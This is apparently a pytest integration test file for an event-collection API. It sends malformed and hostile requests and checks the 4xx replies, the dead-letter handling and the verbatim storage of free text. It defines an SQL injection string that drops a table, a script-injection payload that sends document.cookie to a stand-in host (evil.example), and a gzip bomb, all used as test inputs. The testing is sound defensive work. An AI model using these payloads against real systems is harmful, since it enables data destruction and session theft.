"""A corpus of bad requests: each gets the right 4xx, and nothing of it reaches the events.

A request that cannot be read (bad JSON, UTF-8, key, size, envelope) writes nothing at all;
a readable message that cannot be stored goes to the dead-letter topic with its reasons,
and the others of its batch are stored.
"""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest

from leadflow.processors.events import Event, scoped_key
from leadflow.schemas.codec import codec_from_settings
from leadflow.streams.settings import Settings
from leadflow.streams.topics import DLQ
from tests.integration.collector.conftest import (
    RECEIVED_AT,
    Running,
    consume_since,
    end_offsets,
    make_collector,
    serve,
)

SQL = "1'; DROP TABLE leadflow.events; --"
SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
FAR_FUTURE = "2027-03-01T12:00:00Z"  # a year after the collector's clock
BIG = "x" * 40_000


@dataclass(frozen=True)
class Case:
    name: str
    path: str
    status: int
    body: bytes
    error_paths: tuple[str, ...] = ()
    headers: dict[str, str] = field(default_factory=dict)
    auth: bool = True
    dead: int = 0  # messages it puts on the dead-letter topic


def js(value: Any) -> bytes:
    return json.dumps(value).encode()


def track(**extra: Any) -> dict[str, Any]:
    return {"event": "Deal Won", "userId": "u1", "properties": {"amount": 10}, **extra}


CORPUS = [
    Case("truncated JSON", "/v1/track", 400, b'{"event": "Deal Won", ', ("body",)),
    Case("not JSON at all", "/v1/batch", 400, b"event=Deal+Won&userId=u1", ("body",)),
    Case(
        "NaN is not JSON",
        "/v1/track",
        400,
        b'{"event":"Deal Won","userId":"u","properties":{"amount":NaN}}',
        ("body",),
    ),
    Case(
        "JSON nested too deeply",
        "/v1/track",
        400,
        b'{"event": "X", "userId": "u", "properties": {"a": ' + b"[" * 3000 + b"]" * 3000 + b"}}",
        ("body",),
    ),
    Case(
        "number out of float range",
        "/v1/track",
        400,
        b'{"event": "X", "userId": "u", "properties": {"a": 1e999}}',
        ("body",),
    ),
    Case(
        "integer too large for a double",
        "/v1/track",
        400,
        b'{"event": "Deal Won", "userId": "u", "properties": {"amount": 1' + b"0" * 400 + b"}}",
        ("properties.amount",),
        dead=1,
    ),
    Case(
        "invalid UTF-8",
        "/v1/track",
        400,
        b'{"event": "Deal Won \xff\xfe", "userId": "u1"}',
        ("body",),
    ),
    Case(
        "overlong UTF-8 encoding",
        "/v1/track",
        400,
        b'{"event": "\xc0\xaf", "userId": "u1"}',
        ("body",),
    ),
    Case("body is a list", "/v1/track", 400, js([track()]), ("body",), dead=1),
    Case(
        "wrong type: amount is text",
        "/v1/track",
        400,
        js(track(properties={"amount": "lots"})),
        ("properties.amount",),
        dead=1,
    ),
    Case(
        "wrong type: boolean as amount",
        "/v1/track",
        400,
        js(track(properties={"amount": True})),
        ("properties.amount",),
        dead=1,
    ),
    Case(
        "wrong type: userId is a number",
        "/v1/track",
        400,
        js(track(userId=42)),
        ("userId",),
        dead=1,
    ),
    Case(
        "wrong type: properties is a list",
        "/v1/track",
        400,
        js(track(properties=[1, 2])),
        ("properties",),
        dead=1,
    ),
    Case(
        "wrong type: answers nested",
        "/v1/track",
        400,
        js(
            {
                "event": "Demo Requested",
                "userId": "u1",
                "properties": {"answers": {"budget": {"min": 1}}},
            }
        ),
        ("properties.answers.budget",),
        dead=1,
    ),
    Case(
        "company_size out of int range",
        "/v1/identify",
        400,
        js({"userId": "u1", "traits": {"company_size": 2**40}}),
        ("traits.company_size",),
        dead=1,
    ),
    Case(
        "not a calendar date",
        "/v1/track",
        400,
        js(
            {
                "event": "Campaign Cost",
                "properties": {"date": "2026-02-30", "channel": "x", "amount": 1},
            }
        ),
        ("properties.date",),
        dead=1,
    ),
    Case(
        "stage action outside the enum",
        "/v1/track",
        400,
        js({"event": "Stage Changed", "userId": "u1", "properties": {"action": "promote"}}),
        ("properties.action",),
        dead=1,
    ),
    Case(
        "missing ids",
        "/v1/track",
        400,
        js({"event": "Deal Won", "properties": {"amount": 1}}),
        ("userId",),
        dead=1,
    ),
    Case("missing event name", "/v1/track", 400, js({"userId": "u1"}), ("event",), dead=1),
    Case("empty messageId", "/v1/track", 400, js(track(messageId="")), ("messageId",), dead=1),
    Case(
        "missing required property",
        "/v1/track",
        400,
        js({"event": "Deal Won", "userId": "u1"}),
        ("properties.amount",),
        dead=1,
    ),
    Case(
        "alias without previousId", "/v1/alias", 400, js({"userId": "u1"}), ("previousId",), dead=1
    ),
    Case(
        "timestamp is not a date",
        "/v1/track",
        400,
        js(track(timestamp="yesterday")),
        ("timestamp",),
        dead=1,
    ),
    Case(
        "every bad event is named",
        "/v1/batch",
        400,
        js(
            {
                "batch": [
                    {"type": "track", "event": "Deal Won"},
                    {"type": "teleport", "userId": "u"},
                    "not an object",
                    {"userId": "u", "event": "x"},
                ]
            }
        ),
        (
            "batch[0].properties.amount",
            "batch[0].userId",
            "batch[1].type",
            "batch[2].type",
            "batch[3].type",
        ),
        dead=4,
    ),
    Case("batch is not a list", "/v1/batch", 400, js({"batch": {"type": "track"}}), ("batch",)),
    Case("empty batch", "/v1/batch", 400, js({"batch": []}), ("batch",)),
    Case(
        "bad batch sentAt",
        "/v1/batch",
        400,
        js({"sentAt": "noon", "batch": [{"type": "track", **track()}]}),
        ("sentAt",),
    ),
    Case(
        "SQL injection in a typed field",
        "/v1/identify",
        400,
        js({"userId": "u1", "traits": {"company_size": SQL}}),
        ("traits.company_size",),
        dead=1,
    ),
    Case(
        "SQL injection in an enum",
        "/v1/track",
        400,
        js({"event": "Stage Changed", "userId": "u1", "properties": {"action": SQL}}),
        ("properties.action",),
        dead=1,
    ),
    Case(
        "script injection as the call type",
        "/v1/batch",
        400,
        js({"batch": [{"type": SCRIPT, "userId": "u1"}]}),
        ("batch[0].type",),
        dead=1,
    ),
    Case(
        "script injection in a date",
        "/v1/track",
        400,
        js({"event": "Campaign Cost", "properties": {"date": SCRIPT, "channel": "x", "amount": 1}}),
        ("properties.date",),
        dead=1,
    ),
    Case("oversize event", "/v1/track", 413, js(track(properties={"amount": 1, "note": BIG}))),
    Case(
        "oversize batch",
        "/v1/batch",
        413,
        js(
            {
                "batch": [
                    {"type": "track", **track(properties={"amount": 1, "n": "y" * 20_000})}
                    for _ in range(210)
                ]
            }
        ),
    ),
    Case(
        "gzip bomb over the limit",
        "/v1/batch",
        413,
        gzip.compress(b'{"batch": [' + b" " * 5_000_000 + b"]}"),
        headers={"Content-Encoding": "gzip"},
    ),
    Case(
        "unknown write key",
        "/v1/track",
        401,
        js(track()),
        auth=False,
        headers={"Authorization": "Basic " + base64.b64encode(b"lfw_nope:").decode()},
    ),
    Case(
        "SQL injection as write key",
        "/v1/track",
        401,
        js(track()),
        auth=False,
        headers={"Authorization": "Basic " + base64.b64encode(SQL.encode() + b":").decode()},
    ),
    Case("no write key", "/v1/track", 401, js(track()), auth=False),
    Case(
        "not Basic auth",
        "/v1/track",
        401,
        js(track()),
        auth=False,
        headers={"Authorization": "Bearer abc"},
    ),
    Case("wrong write key in body", "/v1/track", 401, js(track(writeKey="lfw_guess")), auth=False),
]


def send(running: Running, case: Case) -> httpx.Response:
    headers = {"Content-Type": "application/json", **case.headers}
    auth = (running.write_key, "") if case.auth else None
    return httpx.post(
        f"{running.url}{case.path}", content=case.body, headers=headers, auth=auth, timeout=30
    )


def test_bad_input_corpus_gets_the_right_4xx_and_nothing_reaches_the_events(
    running: Running,
) -> None:
    before = end_offsets(running.settings)
    dead_before = end_offsets(running.settings, DLQ.name)
    wrong = []
    for case in CORPUS:
        response = send(running, case)
        answer = response.json()
        paths = [e["path"] for e in answer.get("errors", [])]
        if response.status_code != case.status or answer.get("success") is not False:
            wrong.append((case.name, response.status_code, answer))
        elif case.status == 400 and not paths:
            wrong.append((case.name, "400 without field errors", answer))
        elif any(p not in paths for p in case.error_paths):
            wrong.append((case.name, "missing paths", case.error_paths, paths))
        elif response.status_code == 400 and len(answer["refused"]) != case.dead:
            wrong.append((case.name, "refused", case.dead, answer["refused"]))
    assert wrong == []
    # No event of the corpus was stored; each readable refused message is a dead letter.
    assert end_offsets(running.settings) == before
    letters = consume_since(
        running.settings, dead_before, sum(c.dead for c in CORPUS), topic=DLQ.name
    )
    assert all(value for _key, value in letters)
    # Keys carry the write key's workspace like every person key (issue 19).
    keys = [json.loads(key) for key, _value in letters if key]
    assert keys
    assert [k for k in keys if k[0] != "ws-acme" or len(k) != 2] == []
    metrics = httpx.get(f"{running.url}/metrics").text
    assert 'leadflow_collector_requests_rejected_total{reason="invalid"}' in metrics
    assert 'leadflow_collector_events_refused_total{reason="invalid"}' in metrics


def test_injection_strings_in_free_text_are_stored_verbatim(running: Running) -> None:
    """Free text is data: kept byte for byte (the sinks bind it as a parameter)."""
    before = end_offsets(running.settings)
    response = httpx.post(
        f"{running.url}/v1/track",
        auth=(running.write_key, ""),
        timeout=30,
        json={"event": SCRIPT, "anonymousId": SQL, "properties": {"comment": SQL, "html": SCRIPT}},
    )
    assert response.status_code == 200, response.text
    [(key, value)] = consume_since(running.settings, before, 1)
    event = codec_from_settings(running.settings).decode(value)
    assert isinstance(event, Event)
    assert key.decode() == scoped_key("ws-acme", SQL)
    assert event.payload["name"] == SCRIPT
    assert json.loads(event.payload["properties_json"]) == {"comment": SQL, "html": SCRIPT}


@pytest.fixture(scope="module")
def strict(
    collector_settings: Settings, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Running]:
    settings = collector_settings.model_copy(update={"collector_strict_properties": True})
    collector, key = make_collector(
        settings, tmp_path_factory.mktemp("strict") / "keys.json", clock_ms=lambda: RECEIVED_AT
    )
    with serve(collector) as url:
        yield Running(url, key, collector.settings, collector)


def test_strict_mode_rejects_unknown_properties(strict: Running) -> None:
    before = end_offsets(strict.settings)
    response = httpx.post(
        f"{strict.url}/v1/batch",
        auth=(strict.write_key, ""),
        timeout=30,
        json={
            "batch": [
                {
                    "type": "track",
                    "event": "Deal Won",
                    "userId": "u",
                    "properties": {"amount": 5, "amount_usd": 5, "channel": "partner"},
                },
                {"type": "identify", "userId": "u", "traits": {"email": "a@b.c", "shoe_size": 44}},
                {
                    "type": "track",
                    "event": "Anything Custom",
                    "userId": "u",
                    "properties": {"free": "form"},
                },
            ]
        },
    )
    assert response.status_code == 200
    answer = response.json()
    paths = [e["path"] for r in answer["refused"] for e in r["errors"]]
    # Custom events have no fixed fields, and channel/experiment/variant fit every kind.
    assert paths == ["batch[0].properties.amount_usd", "batch[1].traits.shoe_size"]
    assert len(answer["event_ids"]) == 1
    consume_since(strict.settings, before, 1)


def _mixed(running: Running, batch: list[dict[str, Any]]) -> tuple[dict[str, Any], Any]:
    before = end_offsets(running.settings)
    dead_before = end_offsets(running.settings, DLQ.name)
    response = httpx.post(
        f"{running.url}/v1/batch",
        auth=(running.write_key, ""),
        timeout=30,
        json={"batch": batch},
    )
    assert response.status_code == 200, response.text
    answer = response.json()
    stored = consume_since(running.settings, before, len(answer["event_ids"]))
    letters = consume_since(running.settings, dead_before, len(answer["refused"]), topic=DLQ.name)
    return answer, (stored, letters)


def test_a_mixed_batch_stores_the_good_and_dead_letters_the_bad(running: Running) -> None:
    batch = [
        {"type": "track", **track(messageId="mixed-1")},
        {"type": "identify", "userId": "u2", "traits": {"company_size": "lots"}},
        {"type": "track", **track(messageId="mixed-3")},
        {"type": "track", **track(properties={"amount": "1e3"}, messageId="mixed-4")},
        {"type": "track", **track(properties={"amount": 1, "note": BIG})},
        {"type": "page", "anonymousId": "a", "timestamp": FAR_FUTURE, "messageId": "mixed-6"},
        {"type": "teleport", "userId": "u"},
    ]
    answer, (stored, letters) = _mixed(running, batch)
    assert answer["event_ids"] == ["mixed-1", "mixed-3", "mixed-4", "mixed-6"]
    assert [(r["index"], r["reason"]) for r in answer["refused"]] == [
        (1, "invalid"),
        (4, "too_large"),
        (6, "invalid"),
    ]
    assert [w["path"] for w in answer["warnings"]] == ["batch[5].timestamp"]
    codec = codec_from_settings(running.settings)
    events = [codec.decode(value) for _key, value in stored]
    assert [e.payload.get("amount") for e in events if isinstance(e, Event)][:3] == [
        10.0,
        10.0,
        1000.0,
    ]
    assert all(e.occurred_at <= RECEIVED_AT for e in events if isinstance(e, Event))
    reasons = sorted(
        json.loads(v)["type"] if json.loads(v).get("type") == "teleport" else "x"
        for _k, v in letters
    )
    assert reasons == ["teleport", "x", "x"]
